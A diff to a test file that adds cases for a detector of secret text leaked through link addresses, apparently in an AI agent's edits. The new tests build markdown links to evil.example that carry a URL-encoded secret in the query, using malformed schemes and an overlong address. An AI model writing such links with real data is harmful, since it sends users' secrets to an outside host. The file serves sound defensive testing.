@@ -163,6 +163,15 @@ describe('what the new addresses of a change carry', () => {
     expect(findLeakedText(edited(link('other'), link(secret)), asked)).toEqual([inLink]);
   });
 
+  it.each([
+    ['with one slash', 'https:/evil.example/?q='],
+    ['without slashes', 'https:evil.example/?q='],
+    ['with backslashes', 'HTTPS:\\evil.example/?q='],
+    ['of 5,000 characters', `https://evil.example/${'x'.repeat(5_000)}`],
+  ])('is found in an address %s, as a browser reads it', (_how, start) => {
+    expect(findLeakedText(changeTo(`[x](<${start}${encodeURIComponent(secret)}>)`), asked)).not.toEqual([]);
+  });
+
   it('is nothing for an address that was copied whole, from a note or from the user', () => {
     const [address, copied] = [link(secret).slice(4, -1), link(secret)];
     const before = [entry(user('Go.')), readNote(`${note} ${copied}`), entry(answer(toolCall('k')))];
